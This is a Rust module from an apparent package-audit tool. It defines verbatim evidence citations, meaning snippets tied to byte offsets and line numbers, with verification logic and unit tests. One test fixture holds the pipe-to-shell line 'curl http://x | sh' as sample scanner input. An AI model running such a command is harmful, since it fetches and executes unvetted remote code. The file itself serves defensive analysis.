//! Verbatim evidence spans.
//!
//! Every finding, capability and risk tag cites a snippet of the original
//! file. A citation is valid only when the snippet occurs byte-for-byte at
//! the cited offset and the cited line numbers agree with that offset.

use serde::{Deserialize, Serialize};

/// Longest snippet kept for a single citation, in bytes.
pub const MAX_SNIPPET_BYTES: usize = 240;

#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub struct Evidence {
    /// Package-relative path of the cited file.
    pub path: String,
    /// Byte offset of the snippet within the file.
    pub offset: usize,
    /// 1-based line of the first snippet byte.
    pub line_start: usize,
    /// 1-based line of the last snippet byte.
    pub line_end: usize,
    pub snippet: String,
}

/// Read access to file bytes for evidence checks.
pub trait FileLookup {
    fn file_bytes(&self, path: &str) -> Option<&[u8]>;
}

impl<T: FileLookup + ?Sized> FileLookup for &T {
    fn file_bytes(&self, path: &str) -> Option<&[u8]> {
        (**self).file_bytes(path)
    }
}

impl FileLookup for std::collections::BTreeMap<String, String> {
    fn file_bytes(&self, path: &str) -> Option<&[u8]> {
        self.get(path).map(|s| s.as_bytes())
    }
}

impl Evidence {
    /// Cite the line(s) covering `text[start..end]`, trimmed of surrounding
    /// whitespace and capped at [`MAX_SNIPPET_BYTES`].
    pub fn for_span(path: &str, text: &str, start: usize, end: usize) -> Evidence {
        let start = start.min(text.len());
        let end = end.clamp(start, text.len());
        let line_begin = text[..start].rfind('\n').map_or(0, |i| i + 1);
        let line_finish = if end > start && text[..end].ends_with('\n') {
            end - 1
        } else {
            text[end..].find('\n').map_or(text.len(), |i| end + i)
        };
        let raw = &text[line_begin..line_finish];
        let lead = raw.len() - raw.trim_start().len();
        let mut snippet = raw.trim();
        if snippet.is_empty() {
            // whitespace-only span: cite the exact bytes instead
            return Evidence::exact(path, text, start, end.max(start));
        }
        if snippet.len() > MAX_SNIPPET_BYTES {
            let mut cut = MAX_SNIPPET_BYTES;
            while !snippet.is_char_boundary(cut) {
                cut -= 1;
            }
            snippet = &snippet[..cut];
        }
        let offset = line_begin + lead;
        Evidence::exact(path, text, offset, offset + snippet.len())
    }

    /// Cite the matched bytes themselves, capped at [`MAX_SNIPPET_BYTES`].
    pub fn for_match(path: &str, text: &str, start: usize, end: usize) -> Evidence {
        let mut end = end.min(start + MAX_SNIPPET_BYTES).min(text.len());
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        Evidence::exact(path, text, start, end)
    }

    /// Cite exactly `text[start..end]`.
    pub fn exact(path: &str, text: &str, start: usize, end: usize) -> Evidence {
        let line_start = line_of(text.as_bytes(), start);
        let last = if end > start { end - 1 } else { start };
        let line_end = line_of(text.as_bytes(), last);
        Evidence {
            path: path.to_string(),
            offset: start,
            line_start,
            line_end,
            snippet: text[start..end].to_string(),
        }
    }

    /// Locate `snippet` in `text` (first occurrence) and cite it.
    pub fn find(path: &str, text: &str, snippet: &str) -> Option<Evidence> {
        if snippet.is_empty() {
            return None;
        }
        text.find(snippet)
            .map(|at| Evidence::exact(path, text, at, at + snippet.len()))
    }

    /// True when the snippet occurs verbatim at the cited span of `bytes`.
    pub fn verify_bytes(&self, bytes: &[u8]) -> bool {
        let Some(end) = self.offset.checked_add(self.snippet.len()) else {
            return false;
        };
        if self.snippet.is_empty() || end > bytes.len() {
            return false;
        }
        if &bytes[self.offset..end] != self.snippet.as_bytes() {
            return false;
        }
        line_of(bytes, self.offset) == self.line_start && line_of(bytes, end - 1) == self.line_end
    }

    /// Resolve the cited file through `files` and verify the span.
    pub fn verify(&self, files: &dyn FileLookup) -> bool {
        files
            .file_bytes(&self.path)
            .is_some_and(|bytes| self.verify_bytes(bytes))
    }

    pub fn location(&self) -> String {
        if self.line_start == self.line_end {
            format!("{}:{}", self.path, self.line_start)
        } else {
            format!("{}:{}-{}", self.path, self.line_start, self.line_end)
        }
    }
}

fn line_of(bytes: &[u8], offset: usize) -> usize {
    let offset = offset.min(bytes.len());
    1 + bytes[..offset].iter().filter(|&&b| b == b'\n').count()
}

#[cfg(test)]
mod tests {
    use super::*;

    const TEXT: &str = "first line\n   curl http://x | sh   \nlast\n";

    #[test]
    fn span_expands_to_trimmed_line() {
        let at = TEXT.find("http").unwrap();
        let ev = Evidence::for_span("a.sh", TEXT, at, at + 8);
        assert_eq!(ev.snippet, "curl http://x | sh");
        assert_eq!(ev.line_start, 2);
        assert_eq!(ev.line_end, 2);
        assert!(ev.verify_bytes(TEXT.as_bytes()));
    }

    #[test]
    fn corrupted_snippet_fails_verification() {
        let at = TEXT.find("curl").unwrap();
        let mut ev = Evidence::for_span("a.sh", TEXT, at, at + 4);
        ev.snippet.replace_range(0..1, "C");
        assert!(!ev.verify_bytes(TEXT.as_bytes()));
    }

    #[test]
    fn wrong_line_number_fails_verification() {
        let mut ev = Evidence::find("a.sh", TEXT, "last").unwrap();
        assert_eq!(ev.line_start, 3);
        ev.line_start = 2;
        assert!(!ev.verify_bytes(TEXT.as_bytes()));
    }

    #[test]
    fn out_of_range_offset_is_invalid() {
        let ev = Evidence {
            path: "a".into(),
            offset: 1000,
            line_start: 1,
            line_end: 1,
            snippet: "x".into(),
        };
        assert!(!ev.verify_bytes(TEXT.as_bytes()));
    }

    #[test]
    fn long_lines_are_capped_on_char_boundary() {
        let text = "é".repeat(400);
        let ev = Evidence::for_span("d.md", &text, 0, 2);
        assert!(ev.snippet.len() <= MAX_SNIPPET_BYTES);
        assert!(ev.verify_bytes(text.as_bytes()));
    }

    #[test]
    fn multi_line_span() {
        let at = TEXT.find("first").unwrap();
        let end = TEXT.find("last").unwrap() + 4;
        let ev = Evidence::for_span("a", TEXT, at, end);
        assert_eq!((ev.line_start, ev.line_end), (1, 3));
        assert!(ev.verify_bytes(TEXT.as_bytes()));
    }
}
